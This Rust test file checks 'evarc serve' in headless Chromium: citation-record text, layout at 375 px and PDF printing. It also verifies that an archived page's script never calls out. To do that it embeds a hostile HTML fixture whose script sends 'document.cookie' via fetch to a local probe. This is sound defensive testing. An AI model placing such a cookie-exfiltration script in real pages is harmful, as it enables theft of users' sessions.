//! Issue 12: `evarc serve` tested as a person would, with Debian's chromium (headless) and
//! chromium-driver: the visible Citation Record equals `evarc cite`, the page fits a 375 px
//! screen, the printed PDF holds the citation record, and an archived page's script never calls
//! out. Screenshots and the PDF are kept under `$CARGO_TARGET_TMPDIR/serve-browser/`.
//!
//! Skipped, saying so, when chromium or chromedriver is missing, unless `EVARC_REQUIRE_BROWSER=1`
//! (set by `.ci/run`), which makes a missing browser a failure.

use std::io::Read as _;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::aws_fixture;
use crate::serve_util::Server;
use crate::util::path_str;

const CHROMIUM: &str = "/usr/bin/chromium";
const CHROMEDRIVER: &str = "/usr/bin/chromedriver";
const PDFTOTEXT: &str = "/usr/bin/pdftotext";

/// True when the browser tools are there; panics if they are required and missing.
fn browser_available() -> bool {
    let missing: Vec<&str> = [CHROMIUM, CHROMEDRIVER, PDFTOTEXT]
        .into_iter()
        .filter(|p| !Path::new(p).exists())
        .collect();
    if missing.is_empty() {
        return true;
    }
    assert!(
        std::env::var_os("EVARC_REQUIRE_BROWSER").is_none_or(|v| v != "1"),
        "EVARC_REQUIRE_BROWSER=1 but {} missing (apt-get install chromium chromium-driver poppler-utils)",
        missing.join(", ")
    );
    eprintln!(
        "skipping the browser test: {} missing (apt-get install chromium chromium-driver poppler-utils)",
        missing.join(", ")
    );
    false
}

fn output_dir() -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("serve-browser");
    std::fs::create_dir_all(&dir).expect("create the browser test's output folder");
    dir
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("a free port")
        .port()
}

/// The flags every headless chromium run gets (the network is closed; nothing may phone home).
fn chromium_flags(profile: &Path) -> Vec<String> {
    vec![
        "--headless".into(),
        "--no-sandbox".into(),
        "--disable-gpu".into(),
        "--disable-background-networking".into(),
        "--disable-component-update".into(),
        "--disable-sync".into(),
        "--no-first-run".into(),
        "--disable-dev-shm-usage".into(),
        format!("--user-data-dir={}", profile.display()),
    ]
}

/// Runs chromium once on `url` with extra flags (screenshot, PDF, DOM dump).
fn chromium(extra: &[String], url: &str) -> std::process::Output {
    let profile = tempfile::tempdir().expect("a fresh chromium profile");
    let mut child = Command::new(CHROMIUM)
        .args(chromium_flags(profile.path()))
        .args(extra)
        .arg(url)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start chromium");
    let deadline = Instant::now() + Duration::from_secs(90);
    loop {
        if let Some(_status) = child.try_wait().expect("wait for chromium") {
            return child.wait_with_output().expect("chromium's output");
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("chromium did not finish within 90 s on {url}");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A chromedriver session over W3C WebDriver (plain HTTP + JSON).
struct Driver {
    child: Child,
    base: String,
    session: String,
    _profile: tempfile::TempDir,
}

impl Driver {
    fn start(width: u32, height: u32) -> Driver {
        let port = free_port();
        let child = Command::new(CHROMEDRIVER)
            .arg(format!("--port={port}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start chromedriver");
        let base = format!("http://127.0.0.1:{port}");
        let deadline = Instant::now() + Duration::from_secs(30);
        while ureq::get(&format!("{base}/status")).call().is_err() {
            assert!(Instant::now() < deadline, "chromedriver did not come up");
            std::thread::sleep(Duration::from_millis(100));
        }
        let profile = tempfile::tempdir().expect("a fresh chromium profile");
        let mut args = chromium_flags(profile.path());
        args.push(format!("--window-size={width},{height}"));
        // Headless windows have a minimum width; device metrics emulation sets the exact viewport.
        let caps = json!({"capabilities": {"alwaysMatch": {
            "browserName": "chrome",
            "goog:chromeOptions": {"binary": CHROMIUM, "args": args, "mobileEmulation": {
                "deviceMetrics": {"width": width, "height": height, "pixelRatio": 1.0}
            }}
        }}});
        let mut driver = Driver {
            child,
            base,
            session: String::new(),
            _profile: profile,
        };
        let created = driver.call("POST", "/session", &caps);
        driver.session = created["sessionId"]
            .as_str()
            .expect("a WebDriver session ID")
            .to_owned();
        driver
    }

    fn call(&self, method: &str, path: &str, body: &Value) -> Value {
        let url = format!("{}{path}", self.base);
        let response = match method {
            "POST" => ureq::post(&url)
                .set("Content-Type", "application/json")
                .send_string(&body.to_string()),
            "DELETE" => ureq::delete(&url).call(),
            _ => ureq::get(&url).call(),
        };
        let response = match response {
            Ok(r) => r,
            Err(ureq::Error::Status(code, r)) => {
                panic!(
                    "WebDriver {method} {path}: {code} {}",
                    r.into_string().unwrap_or_default()
                )
            }
            Err(e) => panic!("WebDriver {method} {path}: {e}"),
        };
        let text = response.into_string().expect("WebDriver answers text");
        let value: Value = serde_json::from_str(&text).expect("WebDriver answers JSON");
        value.get("value").cloned().unwrap_or(value)
    }

    fn session_path(&self, rest: &str) -> String {
        format!("/session/{}{rest}", self.session)
    }

    fn goto(&self, url: &str) {
        self.call("POST", &self.session_path("/url"), &json!({ "url": url }));
    }

    fn script(&self, script: &str) -> Value {
        self.call(
            "POST",
            &self.session_path("/execute/sync"),
            &json!({ "script": script, "args": [] }),
        )
    }

    fn screenshot(&self, file: &Path) {
        use base64::Engine as _;
        let png = self.call("GET", &self.session_path("/screenshot"), &Value::Null);
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(png.as_str().expect("a base64 screenshot"))
            .expect("decode the screenshot");
        assert!(bytes.starts_with(b"\x89PNG"), "a PNG screenshot");
        std::fs::write(file, bytes).expect("keep the screenshot");
    }
}

impl Drop for Driver {
    fn drop(&mut self) {
        if !self.session.is_empty() {
            let url = format!("{}/session/{}", self.base, self.session);
            let _ = ureq::delete(&url).call();
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn browser_provision_page_citation_record_layout_at_375px_and_print_to_pdf() {
    if !browser_available() {
        return;
    }
    let fixture = aws_fixture::build();
    let server = Server::start(&fixture.env);
    let url = format!("{}/CA-P-011417", server.base);
    let out = output_dir();

    // Desktop width: the visible Citation Record text is what `evarc cite` prints.
    let driver = Driver::start(1280, 2000);
    driver.goto(&url);
    let visible = driver.script("return document.getElementById('citation-record').innerText;");
    let cite = fixture.env.evarc(&["cite", "CA-P-011417"]).ok();
    assert_eq!(
        visible.as_str().expect("the block's text").trim_end(),
        cite.stdout_text().trim_end()
    );
    let evidence = driver.script("return document.getElementById('evidence').innerText;");
    assert!(
        evidence
            .as_str()
            .is_some_and(|e| e.starts_with("✓ Snapshot stored ✓ Hash verified 20")),
        "{evidence}"
    );
    driver.screenshot(&out.join("provision-1280.png"));
    drop(driver);

    // Phone width: nothing wider than the screen, the citation block fully visible.
    let phone = Driver::start(375, 812);
    phone.goto(&url);
    let inner = phone
        .script("return window.innerWidth;")
        .as_u64()
        .expect("a width");
    let scroll = phone
        .script("return document.documentElement.scrollWidth;")
        .as_u64()
        .expect("a width");
    assert!(
        scroll <= inner,
        "the page is {scroll} px wide on a {inner} px screen"
    );
    let block = phone
        .script("var r = document.getElementById('citation-record').getBoundingClientRect(); return [r.left, r.right];");
    let right = block[1].as_f64().expect("a position");
    assert!(
        block[0].as_f64().expect("a position") >= 0.0 && right <= inner as f64,
        "{block}"
    );
    phone.screenshot(&out.join("provision-375.png"));
    drop(phone);

    // Printed as an exhibit: the PDF's text holds the citation record.
    let pdf = out.join("provision.pdf");
    let run = chromium(
        &[
            "--no-pdf-header-footer".into(),
            format!("--print-to-pdf={}", pdf.display()),
        ],
        &url,
    );
    assert!(
        pdf.exists(),
        "no PDF: {}",
        String::from_utf8_lossy(&run.stderr)
    );
    let text = Command::new(PDFTOTEXT)
        .args([path_str(&pdf), "-"])
        .output()
        .expect("run pdftotext");
    let text = String::from_utf8_lossy(&text.stdout).into_owned();
    for line in cite.stdout_text().lines().take(8) {
        assert!(text.contains(line), "the PDF lacks {line:?}:\n{text}");
    }
    assert!(text.contains("✓ Hash verified"), "{text}");
    assert!(
        !text.contains("Copy citation"),
        "the print stylesheet hides the button"
    );
}

/// A TCP listener counting every connection made to it.
fn probe() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind the probe");
    let port = listener.local_addr().expect("the probe's address").port();
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            counter.fetch_add(1, Ordering::SeqCst);
            let mut stream = stream;
            let mut buf = [0u8; 1024];
            let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
            let _ = stream.read(&mut buf);
            let _ = std::io::Write::write_all(
                &mut stream,
                b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n",
            );
        }
    });
    (port, hits)
}

#[test]
fn browser_archived_script_never_calls_out_from_raw_or_memento() {
    if !browser_available() {
        return;
    }
    let (port, hits) = probe();
    let page = format!(
        "<!DOCTYPE html><html><head><title>Hostile</title></head><body><p>Terms.</p>\
         <script>fetch('http://127.0.0.1:{port}/from-script?c=' + document.cookie, {{mode: 'no-cors'}});\
         var x = new XMLHttpRequest(); x.open('GET', 'http://127.0.0.1:{port}/xhr'); x.send();\
         document.body.setAttribute('data-ran', 'yes');</script></body></html>"
    );
    let fixture = aws_fixture::build();
    let env = &fixture.env;
    let file = env.write("hostile.html", page.as_bytes());
    env.evarc(&[
        "archive",
        path_str(&file),
        "--entity",
        "Hostile",
        "--document",
        "Hostile Page",
        "--url",
        "https://example.org/hostile",
        "--captured-at",
        "2026-06-01T00:00:00Z",
    ])
    .ok();
    let sha = {
        use sha2::Digest as _;
        hex::encode(sha2::Sha256::digest(page.as_bytes()))
    };
    let server = Server::start(env);

    // Positive control: the same page opened directly runs its script and reaches the probe.
    let control = chromium(
        &["--virtual-time-budget=3000".into(), "--dump-dom".into()],
        &format!("file://{}", file.display()),
    );
    let control_dom = String::from_utf8_lossy(&control.stdout).into_owned();
    assert!(
        control_dom.contains("data-ran=\"yes\""),
        "control did not run: {control_dom}"
    );
    let deadline = Instant::now() + Duration::from_secs(5);
    while hits.load(Ordering::SeqCst) == 0 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        hits.load(Ordering::SeqCst) > 0,
        "the control page's script never reached the probe"
    );
    hits.store(0, Ordering::SeqCst);

    for path in [
        format!("/raw/{sha}"),
        "/web/20260601000000/https://example.org/hostile".to_owned(),
    ] {
        let run = chromium(
            &["--virtual-time-budget=3000".into(), "--dump-dom".into()],
            &format!("{}{path}", server.base),
        );
        let dom = String::from_utf8_lossy(&run.stdout).into_owned();
        assert!(dom.contains("Terms."), "{path} did not load: {dom}");
        assert!(
            !dom.contains("data-ran=\"yes\""),
            "{path}: the archived script ran"
        );
        std::thread::sleep(Duration::from_millis(500));
        assert_eq!(
            hits.load(Ordering::SeqCst),
            0,
            "{path}: the archived script called out"
        );
    }
}
